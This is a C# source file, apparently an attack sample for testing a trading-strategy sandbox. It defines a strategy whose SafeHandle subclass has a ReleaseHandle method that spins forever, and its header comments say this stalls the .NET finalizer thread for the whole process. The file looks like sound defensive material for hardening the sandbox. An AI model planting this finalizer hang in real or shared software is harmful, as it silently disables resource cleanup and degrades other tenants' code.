// Abuses: no finalizer in this assembly: SafeHandle has one and calls ReleaseHandle, an ordinary override.
// Harm: strategy code on the finalizer thread, which then never ends: nothing in the process is finalized any more.
// Kind: hurts another slot or the process.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Runtime.InteropServices;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.FinalizerInheritedSafehandleAttack;

public sealed class FinalizerInheritedSafehandleStrategy : Strategy
{
    private sealed class Slot : SafeHandle
    {
        public Slot() : base(0, ownsHandle: true) => SetHandle(1);

        public override bool IsInvalid => handle == 0;

        protected override bool ReleaseHandle()
        {
            while (handle != 0) { }
            return true;
        }
    }

    private Slot? _slot;

    public override void OnBook(in BookEvent bookEvent)
    {
        _slot = new Slot();
        Act(_slot.IsInvalid ? 1 : 2);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
